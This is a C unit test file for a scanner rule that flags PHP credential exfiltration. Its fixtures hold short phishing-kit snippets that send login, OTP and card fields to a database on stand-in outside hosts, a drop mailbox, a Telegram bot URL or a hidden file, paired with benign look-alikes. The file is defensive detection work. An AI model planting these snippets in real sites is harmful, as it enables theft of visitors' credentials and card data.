/* php.credential_exfil, train6 round: the channels and labels a blind
 * development generator's kits used that the analysis did not know (a
 * database on an outside host, an array key naming the field). Every
 * snippet is written here from the technique, in spellings train6 does not
 * use, with the look-alikes of real applications that must stay quiet. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/php_eval.h"

static struct php_result res;

static const struct php_hit *run(const char *src)
{
	php_result_free(&res);
	php_eval((const unsigned char *)src, strlen(src), false, NULL, &res);
	for (size_t i = 0; i < res.nhits; i++)
		if (!strcmp(res.hits[i].rule, "php.credential_exfil"))
			return &res.hits[i];
	return NULL;
}

static void at_least(const char *src, enum hs_severity sev)
{
	const struct php_hit *h = run(src);
	if (!h || h->sev < sev) {
		fprintf(stderr, "want php.credential_exfil >= %d in: %s\n", (int)sev, src);
		for (size_t i = 0; i < res.nhits; i++)
			fprintf(stderr, "  got %s (%d): %s\n", res.hits[i].rule,
			        (int)res.hits[i].sev, res.hits[i].evidence);
	}
	assert_non_null(h);
	assert_true(h->sev >= sev);
}

static void quiet(const char *src)
{
	const struct php_hit *h = run(src);
	if (h)
		fprintf(stderr, "unexpected: %s\n  in: %s\n", h->evidence, src);
	assert_null(h);
}

/* A kit's victim table in its author's database elsewhere. */
static void test_remote_database(void **state)
{
	(void)state;
	at_least("<?php $c = new PDO('pgsql:host=203.0.113.77;dbname=loot', 'u', 'x');\n"
	         "$s = $c->prepare('INSERT INTO creds VALUES (:a, :b, :c)');\n"
	         "$s->execute([':a' => $_POST['username'], ':b' => $_POST['passwd'], ':c' => "
	         "$_SERVER['REMOTE_ADDR']]);",
	         HS_SEV_HIGH);
	at_least(
	    "<?php $m = new mysqli('store.example-collector.net', 'u', 'x', 'db');\n"
	    "$m->query(\"INSERT INTO t (e, s, a) VALUES ('\" . $_REQUEST['login'] . \"', '\" . "
	    "$_REQUEST['pin'] . \"', '\" . $_SERVER['HTTP_USER_AGENT'] . \"')\");",
	    HS_SEV_HIGH);
	at_least("<?php $l = mysqli_connect('p:198.51.100.9', 'a', 'b', 'c');\n"
	         "mysqli_query($l, sprintf(\"REPLACE INTO v SET x='%s', y='%s', z='%s'\", "
	         "$_POST['email'], $_POST['otp_code'], getenv('REMOTE_ADDR')));",
	         HS_SEV_HIGH);
}

static void test_real_databases_are_quiet(void **state)
{
	(void)state;
	/* the site's own database: an application's users table */
	quiet("<?php $c = new PDO('mysql:host=localhost;dbname=shop', 'u', 'x');\n"
	      "$s = $c->prepare('INSERT INTO users VALUES (?, ?, ?)');\n"
	      "$s->execute([$_POST['email'], $_POST['password'], $_SERVER['REMOTE_ADDR']]);");
	quiet("<?php $c = new PDO('mysql:host=db;dbname=shop', 'u', 'x');\n"
	      "$c->prepare('INSERT INTO users VALUES (?, ?, ?)')->execute([$_POST['email'], "
	      "$_POST['password'], $_SERVER['REMOTE_ADDR']]);");
	/* a managed database elsewhere: the password hashed */
	quiet("<?php $c = new PDO('mysql:host=mydb.cluster-1.rds.example.com;dbname=app', 'u', "
	      "'x');\n"
	      "$s = $c->prepare('INSERT INTO users (email, hash, ip) VALUES (?, ?, ?)');\n"
	      "$s->execute([$_POST['email'], password_hash($_POST['password'], PASSWORD_DEFAULT), "
	      "$_SERVER['REMOTE_ADDR']]);");
	/* an order or a contact message kept elsewhere: no credential */
	quiet("<?php $m = new mysqli('10.0.3.7', 'u', 'x', 'crm');\n"
	      "$m->query(\"INSERT INTO leads VALUES ('\" . $_POST['name'] . \"', '\" . "
	      "$_POST['phone'] . \"', '\" . $_SERVER['REMOTE_ADDR'] . \"')\");");
	quiet("<?php $c = new PDO('mysql:host=203.0.113.5;dbname=crm', 'u', 'x');\n"
	      "$c->prepare('INSERT INTO leads VALUES (?, ?, ?)')->execute([$_POST['name'], "
	      "$_POST['message'], $_SERVER['REMOTE_ADDR']]);");
	/* a login checked against the remote database: a select, no address */
	quiet("<?php $c = new PDO('mysql:host=203.0.113.5;dbname=crm', 'u', 'x');\n"
	      "$s = $c->prepare('SELECT hash FROM users WHERE email = ?');\n"
	      "$s->execute([$_POST['email']]); $r = $s->fetch();\n"
	      "if (password_verify($_POST['password'], $r['hash'])) { $_SESSION['u'] = 1; }");
}

/* Second round: a kit whose form and handler are one file, fields named
 * for nothing, no label in the message; the form says what they are. */
static void test_form_in_the_same_file(void **state)
{
	(void)state;
	/* a password input by type, mailed with the visitor's address */
	at_least("<?php if ($_SERVER['REQUEST_METHOD'] == 'POST') {\n"
	         "mail('drop@example-box.test', 'new', $_POST['a'] . ' ' . $_POST['b'] . ' ' . "
	         "$_SERVER['REMOTE_ADDR']); header('Location: https://example.com/'); exit; } ?>\n"
	         "<form method=\"post\"><input name=\"a\" placeholder=\"E-mail\">"
	         "<input type=\"password\" name=\"b\"><button>Sign in</button></form>",
	         HS_SEV_HIGH);
	/* card fields named by their placeholders, to a bot */
	at_least(
	    "<?php if (!empty($_POST)) { $t = $_POST['x1'] . '|' . $_POST['x2'] . '|' . "
	    "$_POST['x3'];\n"
	    "file_get_contents('https://api.telegram.org/bot1:A/sendMessage?chat_id=2&text=' . "
	    "urlencode($t)); } ?>\n"
	    "<form action=\"\" method=\"post\"><input name=\"x1\" placeholder=\"Nomor kartu\">"
	    "<input name=\"x2\" placeholder=\"MM/YY\"><input name=\"x3\" placeholder=\"CVV\">"
	    "</form>",
	    HS_SEV_HIGH);
	/* a <label> in French before the input, appended to a file */
	at_least("<?php if (isset($_POST['k'])) { file_put_contents('.r.txt', $_POST['k'] . ';' . "
	         "$_POST['q'] . ';' . $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND); } ?>\n"
	         "<form method=\"post\" action=\"<?= $_SERVER['PHP_SELF'] ?>\">"
	         "<label>Num\xc3\xa9ro de carte</label><input name=\"k\">"
	         "<label>Cryptogramme</label><input name=\"q\"></form>",
	         HS_SEV_MEDIUM);
}

static void test_own_forms_are_quiet(void **state)
{
	(void)state;
	/* an application's login: the password verified, a failed login logged */
	quiet(
	    "<?php if ($_POST) { $u = get_user($_POST['a']);\n"
	    "if (!$u || !password_verify($_POST['b'], $u['hash'])) { file_put_contents('auth.log', "
	    "$_POST['a'] . ' ' . $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND); } } ?>\n"
	    "<form method=\"post\"><input name=\"a\"><input type=\"password\" name=\"b\"></form>");
	/* a contact form: nothing secret asked */
	quiet("<?php if ($_POST) { mail('office@example.org', 'Contact', $_POST['n'] . \"\\n\" . "
	      "$_POST['m'] . \"\\n\" . $_SERVER['REMOTE_ADDR']); } ?>\n"
	      "<form method=\"post\"><label>Name</label><input name=\"n\">"
	      "<label>Message</label><textarea name=\"m\"></textarea></form>");
	/* the form posts elsewhere (a gateway): this file's handler is another's */
	quiet("<?php if ($_POST) { mail('office@example.org', 'Order', $_POST['n'] . ' ' . "
	      "$_SERVER['REMOTE_ADDR']); } ?>\n"
	      "<form method=\"post\" action=\"https://pay.example-gateway.com/charge\">"
	      "<input name=\"n\"><input name=\"c\" placeholder=\"Card number\"></form>");
	/* the handler mails the user name only; the password input is not read */
	quiet("<?php if ($_POST) { mail('admin@example.org', 'Signup', 'New member: ' . "
	      "$_POST['a'] . ' ' . $_SERVER['REMOTE_ADDR']); } ?>\n"
	      "<form method=\"post\"><input name=\"a\"><input type=\"password\" name=\"pw1\">"
	      "</form>");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_remote_database),
	    cmocka_unit_test(test_real_databases_are_quiet),
	    cmocka_unit_test(test_form_in_the_same_file),
	    cmocka_unit_test(test_own_forms_are_quiet),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
